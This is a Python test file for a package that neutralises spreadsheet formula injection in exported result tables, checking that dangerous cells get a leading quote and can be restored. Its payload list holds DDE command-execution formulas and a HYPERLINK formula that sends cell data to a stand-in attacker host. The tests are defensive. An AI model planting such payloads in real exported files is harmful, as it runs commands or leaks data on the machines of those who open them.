"""Tables meant for people never run a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from outcomes.spreadsheet import neutralise, neutralise_formulas, neutralise_values, original
from outcomes.tables import write_tsv

# the usual payloads (OWASP CSV injection page and its references)
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "'=1+1",  # starts with the guard itself: guarded too, so that the change can be undone
]
NUMBERS = ["-0.5", "-3", "+3", "1e-3", "-1.5E+2", "42", ".5", "-.5"]
PLAIN = ["P001", "", "peer_support vs usual_care", "a=b", "x-1", "S1@home"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_get_a_leading_quote_and_come_back(text):
    shown = neutralise(text)
    assert shown == "'" + text
    assert original(shown) == text


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_numbers_and_plain_text_are_left_alone(text):
    assert neutralise(text) == text
    assert original(text) == text


def test_frame_text_columns_only():
    df = pd.DataFrame(
        {
            "term": ["=1+1", "-0.5", "arm", None],
            "estimate": [-0.5, 1.0, np.nan, 2.0],
            "n": pd.array([1, -2, None, 4], dtype="Int64"),
        }
    )
    out = neutralise_formulas(df)
    assert out["term"].tolist()[:3] == ["'=1+1", "-0.5", "arm"] and out["term"].isna().iloc[3]
    assert out["estimate"].equals(df["estimate"]) and out["n"].equals(df["n"])
    assert df.loc[0, "term"] == "=1+1"  # the caller's frame is not modified
    clean = pd.DataFrame({"term": ["a", "b"]})
    assert neutralise_formulas(clean) is clean
    cat = pd.DataFrame({"arm": pd.Categorical(["=x", "'=x", "y", "=x"])})
    out = neutralise_formulas(cat)
    assert out["arm"].tolist() == ["'=x", "''=x", "y", "'=x"]
    assert [original(v) for v in out["arm"]] == cat["arm"].tolist()


def test_result_tables_are_written_guarded(tmp_path):
    df = pd.DataFrame({"contrast": ["=cmd|' /C calc'!A0 vs usual_care", "x"], "estimate": [-0.25, 1.5]})
    write_tsv(df, tmp_path / "t.tsv")
    lines = (tmp_path / "t.tsv").read_text().splitlines()
    assert lines[1] == "'=cmd|' /C calc'!A0 vs usual_care\t-0.25"
    assert lines[2] == "x\t1.5"


# values on the edges of the rule; validation.html's CSV export must agree on each
# (tests/test_validation_html_listing.py)
TRICKY = [
    *PAYLOADS, *NUMBERS, *PLAIN,
    "-1\n", "-1\r", "+1\n", "-1 ", " -1", "- 1", "1-", "-", "+", "@", "=", "'", "''", "'-1",
    "\n=1+1", " =1+1", "-1e", "-1e+", "-.", ".", "-0x1", "1e5", "-1E-05", "+.5e3",
    "\u22121",  # minus sign (U+2212), not a hyphen-minus: not a formula start
    "\uff0d1", "\uff1d1+1",  # full-width hyphen-minus and equals sign
    "-\u0661", "-\U0001d7d9",  # digits outside ASCII are not plain numbers
    "=\U0001f600", "\U0001f600=1", "\u00e9=1", "-1,5", "-1.5.2", "@@", "=\"x\",\"y\"",
]


def test_scalar_and_vectorised_guards_agree():
    """neutralise (one value), neutralise_values (object arrays) and the Arrow path of
    neutralise_formulas give the same cell for every tricky value ("-1\\n" was a number to
    the scalar guard only: ``$`` matches before a final line break)."""
    scalar = [neutralise(v) for v in TRICKY]
    assert list(neutralise_values(TRICKY)) == scalar
    arrow = pd.DataFrame({"v": pd.array(TRICKY, dtype="string[pyarrow]")})
    assert neutralise_formulas(arrow)["v"].tolist() == scalar
    assert neutralise("-1\n") == "'-1\n" and neutralise("-1") == "-1"
    assert [original(v) for v in scalar] == TRICKY
